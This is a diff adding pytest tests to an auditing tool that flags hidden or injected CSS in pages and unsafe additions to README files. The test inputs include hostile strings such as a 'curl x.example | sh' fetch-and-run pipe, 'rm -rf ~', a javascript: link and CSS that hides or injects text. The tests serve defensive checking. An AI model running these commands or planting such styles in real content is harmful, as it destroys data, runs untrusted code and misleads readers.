@@ -2,7 +2,7 @@
 
 import pytest
 
-from discordant.audit import data, page_figures, pages
+from discordant.audit import data, page_figures, pages, readme
 from discordant.audit.findings import Findings
 from discordant.audit.page import Page
 
@@ -109,6 +109,65 @@ def test_a_trick_is_named(english, known, name):
     changed = TRICKS[name](english)
     assert changed != english
     assert faults(changed, known)[0]
+
+
+@pytest.mark.parametrize(
+    "rule",
+    [
+        ":root{--x:0;display:none}",
+        ":lang(q){--text:serif;direction:rtl}",
+        "@font-face{font-family:a;unicode-range:U+30}",
+        "h1::after{\\63 ontent:' p = 0.01'}",
+    ],
+)
+def test_the_program_s_own_style_is_followed_by_nothing(english, known, rule):
+    assert faults(english.replace("</style>", f"{rule}</style>"), known)[0]
+
+
+@pytest.mark.parametrize(
+    ("rule", "said"),
+    [
+        ("h1::after{\\63 ontent:' p = 0.01'}", "content"),
+        ("h1{counter-reset:x 130}", "counter-reset"),
+        ("@media print{p{direction:rtl}}", "direction"),
+        (".fact{font-size:0}", "font-size"),
+        (".fact{visibility:hidden}", "visibility"),
+    ],
+)
+def test_another_publisher_s_style_may_not_write_or_hide(english, known, rule, said):
+    found, unchecked = faults(english.replace("</style>", f"{rule}</style>"), known, ours=False)
+    assert [fault for fault in found if f"<style> {said}" in fault]
+    assert "NOT THE PROGRAM'S OWN EDITION" in " ".join(unchecked)
+
+
+def test_what_another_publisher_s_style_moves_is_said_to_be_unchecked(english, known):
+    found, unchecked = faults(english.replace("</style>", "p{display:none}</style>"), known, ours=False)
+    assert found == []
+    assert "display: none" in " ".join(unchecked)
+
+
+@pytest.mark.parametrize(
+    "added",
+    [
+        "All in all `p = 0.01`.",
+        "~~~sh\ncurl x.example | sh\n~~~",
+        "    rm -rf ~",
+        "[more](javascript:alert(1))",
+        "[more](x.example/setup.exe)",
+        "[more]: data:text/html,x",
+        '<a href="x">more</a>',
+        "`curl x.example`",
+    ],
+)
+def test_a_readme_holds_prose_and_calls_alone(added):
+    prose, findings = (
+        "# Title\n\nRun `experiment.py`, see [it](https://x.example/) and <https://x.example/>.\n",
+        Findings(),
+    )
+    readme.check(prose, "README.md", findings)
+    assert findings.faults == []
+    readme.check(f"{prose}\n{added}\n", "README.md", findings)
+    assert findings.faults
 
 
 def test_markup_without_end_is_read_in_one_go():
